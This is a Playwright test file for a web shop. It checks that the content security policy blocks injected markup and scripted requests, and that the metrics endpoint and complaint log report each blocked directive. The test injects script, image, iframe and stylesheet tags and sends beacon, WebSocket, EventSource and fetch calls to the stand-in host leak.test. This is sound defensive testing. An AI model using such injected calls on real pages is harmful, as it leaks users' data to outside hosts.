// A page that is made to leak on purpose: what the shopper has not said yes to is stopped, and the shop hears of it.

import { answer, answered, standIn } from '../fixtures/consent.ts';
import * as pages from '../fixtures/pages.ts';
import { expect, test } from '../fixtures/shop.ts';

test.use({ mayKeep: [answered] });

const ways = ['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem'];

for (const said of ['nothing', 'yes to everything'] as const) {
  test(`what is smuggled into a page reaches nobody after ${said}, and is reported @desk @with-script`, async ({
    page,
    context,
    request,
    complaints,
    network,
    visit,
  }) => {
    await standIn(context);
    await visit(pages.home);
    if (said !== 'nothing') await answer(page, 'Accept all');
    const before = await stopped(request);

    // The markup goes in between the real headers and the real page.
    await page.route('**/faq', async (route) => {
      const response = await route.fetch();
      const leak = 'https://leak.test';
      const smuggled = `<img src="${leak}/i.png"><script src="${leak}/s.js"></script><iframe src="${leak}/f"></iframe>
        <link rel="stylesheet" href="${leak}/s.css"><link rel="preconnect" href="${leak}">`;
      const body = (await response.text()).replace('</body>', `${smuggled}</body>`);
      await route.fulfill({ response, body });
    });
    await visit(pages.questions);
    await page.evaluate(async () => {
      navigator.sendBeacon('https://leak.test/beacon', 'x');
      try {
        new WebSocket('wss://leak.test/socket');
      } catch {
        // Some browsers refuse at once and some later; both say so to the listener.
      }
      new EventSource('https://leak.test/events');
      await fetch('https://leak.test/fetch').catch(() => undefined);
    });

    await expect.poll(async () => (await stopped(request)) - before).toBeGreaterThanOrEqual(ways.length);
    expect(network.takeForeign().filter((address) => !address.startsWith('https://leak.test'))).toEqual([]);
    const heard = complaints.take().filter((said) => said.startsWith('refused: '));
    for (const way of ways) {
      expect(heard.some((complaint) => complaint.endsWith(`by ${way}`)), `${way} in ${heard.join('; ')}`).toBe(true);
    }
  });
}

/** How many reports of something stopped the shop has counted. */
async function stopped(request: import('@playwright/test').APIRequestContext): Promise<number> {
  const metrics = await (await request.get('/metrics')).text();
  const counts = metrics.matchAll(/^assay_content_policy_stopped_total\{[^}]*\} (\d+)$/gm);
  return [...counts].reduce((sum, [, count]) => sum + Number(count), 0);
}
